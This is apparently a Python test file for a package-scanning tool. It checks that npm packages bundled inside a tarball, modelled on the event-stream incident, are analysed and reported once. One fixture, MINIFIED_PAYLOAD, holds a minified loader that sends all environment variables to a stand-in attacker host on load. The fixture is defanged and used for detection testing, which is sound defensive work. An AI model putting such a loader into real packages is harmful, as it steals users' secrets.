"""Bundled `node_modules/` packages are packages of their own (issue 10, SPEC §4.2).

The event-stream/flatmap-stream shape with the payload shipped inside the tarball: the
bundled package is carved out, analysed with its own manifest and entry points, and its
findings carried `via bundled dependency <name>@<version>`, once. Fixtures are synthetic and
defanged (hosts under `.invalid`, nothing is ever run).
"""

from __future__ import annotations

import json
import time
from datetime import timedelta
from pathlib import Path
from typing import Any

from tests.deps.mock_registries import MockNpm
from tests.deps.test_scan import RELEASED, via
from tests.support.packages import NpmRelease
from watcher.deps.bundled import analyse_bundled, changed_packages
from watcher.models import ArtifactKind, DependencyChange, FileEntry, Finding, Severity, Snapshot
from watcher.pipeline import analyse, artifact_diff, diff_release, scan_local

INDEX_JS = "module.exports = (s) => s.trim();\n"

#: A minified loader that posts the environment away when the package is loaded (defanged).
MINIFIED_PAYLOAD = (
    '!function(){var e=require("https"),t=JSON.stringify(process.env),'
    'n=e.request({hostname:"collect.attacker.invalid",path:"/c",method:"POST"});'
    'n.on("error",function(){}),n.write(t),n.end()}();'
    "module.exports=function(e){return e.map(function(r){return r})};\n"
)
HONEST_MIN = "module.exports=function(e){return e.map(function(r){return r})};\n"


def bundled_files(version: str, main: str, **extra: Any) -> dict[str, str]:
    manifest = {"name": "flatmap-lite", "version": version, "main": "index.min.js", **extra}
    return {
        "node_modules/flatmap-lite/package.json": json.dumps(manifest, indent=2) + "\n",
        "node_modules/flatmap-lite/index.min.js": main,
    }


def parent(version: str, bundled: dict[str, str] | None, index: str = INDEX_JS) -> NpmRelease:
    manifest: dict[str, object] = {"name": "stream-pkg", "version": version, "main": "index.js"}
    if bundled is not None:
        manifest["dependencies"] = {"flatmap-lite": "^0.1.0"}
        manifest["bundleDependencies"] = ["flatmap-lite"]
    return NpmRelease(manifest, {"index.js": index, **(bundled or {})})


def registry(old: NpmRelease, new: NpmRelease) -> MockNpm:
    npm = MockNpm()
    npm.publish(old, RELEASED - timedelta(days=90))
    npm.publish(new, RELEASED)
    return npm


def own(findings: tuple[Finding, ...]) -> list[Finding]:
    return [f for f in findings if f.via is None]


def test_a_new_bundled_package_with_a_payload_in_a_minified_loader_is_named() -> None:
    new = parent("3.3.6", bundled_files("0.1.1", MINIFIED_PAYLOAD))
    npm = registry(parent("3.3.5", None), new)

    report = diff_release(npm.sources(), "stream-pkg", "3.3.5", "3.3.6")

    assert report.severity >= Severity.HIGH
    from_bundle = via(report)
    assert from_bundle and {f.via for f in from_bundle} == {"flatmap-lite@0.1.1"}
    assert all(
        f.message.startswith("via bundled dependency flatmap-lite@0.1.1: ") for f in from_bundle
    )
    worst = max(from_bundle, key=lambda f: f.severity.rank)
    assert worst.severity >= Severity.HIGH
    # The path as it is in the parent's tarball, where the reviewer will look.
    assert worst.path == "node_modules/flatmap-lite/index.min.js"
    assert worst.evidence and "collect.attacker.invalid" in report_text(from_bundle)
    # Reported once: the parent's own rules do not report the bundled files again.
    assert not any((f.path or "").startswith("node_modules/") for f in own(report.findings))
    # The bundled copy is what npm installs: the registry is never asked for it.
    assert not any(p.startswith("flatmap-lite") for p in npm.requests)
    assert "manifest.dependency-unscanned" not in {f.rule for f in report.findings}
    # The file counts still describe the whole tarball.
    assert report.files.added == 2


def report_text(findings: list[Finding]) -> str:
    return " ".join(f"{f.message} {f.evidence or ''}" for f in findings)


def test_an_unchanged_bundled_package_is_no_news() -> None:
    files = bundled_files("0.1.1", MINIFIED_PAYLOAD)
    npm = registry(parent("3.3.5", files), parent("3.3.6", files, index=INDEX_JS + "// v2\n"))

    report = diff_release(npm.sources(), "stream-pkg", "3.3.5", "3.3.6")

    assert via(report) == []
    assert report.severity <= Severity.LOW


def test_a_bundled_package_whose_content_changed_is_diffed_against_its_old_copy() -> None:
    old = parent("3.3.5", bundled_files("0.1.0", HONEST_MIN))
    new = parent("3.3.6", bundled_files("0.1.1", MINIFIED_PAYLOAD))
    report = diff_release(registry(old, new).sources(), "stream-pkg", "3.3.5", "3.3.6")

    from_bundle = via(report)
    assert {f.via for f in from_bundle} == {"flatmap-lite@0.1.1"}
    assert all("flatmap-lite@0.1.1 (was 0.1.0): " in f.message for f in from_bundle)
    assert report.severity >= Severity.HIGH
    assert not any((f.path or "").startswith("node_modules/") for f in own(report.findings))


def test_a_bundled_install_hook_is_reported_once_by_the_bundled_package() -> None:
    files = bundled_files("0.1.1", HONEST_MIN, scripts={"postinstall": "node index.min.js"})
    npm = registry(parent("3.3.5", None), parent("3.3.6", files))

    report = diff_release(npm.sources(), "stream-pkg", "3.3.5", "3.3.6")

    hooks = [f for f in report.findings if f.rule == "npm.install-script"]
    assert len(hooks) == 1, hooks
    assert hooks[0].via == "flatmap-lite@0.1.1"
    assert hooks[0].path == "node_modules/flatmap-lite/package.json"


def snapshot(files: dict[str, str]) -> Snapshot:
    return Snapshot(
        "p.tgz",
        ArtifactKind.NPM_TARBALL,
        {path: FileEntry.of(path, text.encode()) for path, text in files.items()},
    )


def test_nested_and_scoped_bundled_packages_are_each_their_own_package() -> None:
    manifest = json.dumps({"name": "p", "version": "1.0.0"})
    files = {
        "package.json": manifest,
        "node_modules/@sc/a/package.json": json.dumps({"name": "@sc/a", "version": "2.0.0"}),
        "node_modules/@sc/a/index.js": INDEX_JS,
        "node_modules/@sc/a/node_modules/b/package.json": json.dumps(
            {"name": "b", "version": "0.0.1"}
        ),
        "node_modules/@sc/a/node_modules/b/index.js": MINIFIED_PAYLOAD,
    }
    diff = artifact_diff(snapshot({"package.json": manifest}), snapshot(files))
    packages = changed_packages(diff)
    assert [(p.name, sorted(p.new.files)) for p in packages] == [
        ("@sc/a", ["index.js", "package.json"]),
        ("b", ["index.js", "package.json"]),
    ]
    scans, parents = analyse_bundled((diff,), analyse, artifact_diff)
    assert [(s.name, s.version, s.change) for s in scans] == [
        ("@sc/a", "2.0.0", DependencyChange.BUNDLED),
        ("b", "0.0.1", DependencyChange.BUNDLED),
    ]
    assert [c.path for c in parents[0].changes] == []
    paths = {f.path for s in scans for f in s.findings}
    assert "node_modules/@sc/a/node_modules/b/index.js" in paths


def test_a_first_release_scan_analyses_its_bundled_packages_as_packages(tmp_path: Path) -> None:
    release = parent("3.3.6", bundled_files("0.1.1", MINIFIED_PAYLOAD))
    path = tmp_path / release.filename
    path.write_bytes(release.tarball())

    report = scan_local(path)

    assert {f.via for f in via(report)} == {"flatmap-lite@0.1.1"}
    assert report.severity >= Severity.HIGH
    assert not any((f.path or "").startswith("node_modules/") for f in own(report.findings))
    assert report.files.added == 4


def test_many_bundled_packages_are_partitioned_in_one_pass() -> None:
    """npm-sized bundles (hundreds of packages, thousands of files) stay cheap."""
    files = {"package.json": json.dumps({"name": "p", "version": "1.0.0"})}
    for i in range(300):
        root = f"node_modules/dep-{i}/"
        files[root + "package.json"] = json.dumps({"name": f"dep-{i}", "version": "1.0.0"})
        files.update({f"{root}lib/f{j}.js": INDEX_JS for j in range(30)})
    started = time.perf_counter()
    packages = changed_packages(artifact_diff(None, snapshot(files)))
    assert len(packages) == 300
    assert all(len(p.new.files) == 31 for p in packages)
    assert time.perf_counter() - started < 10
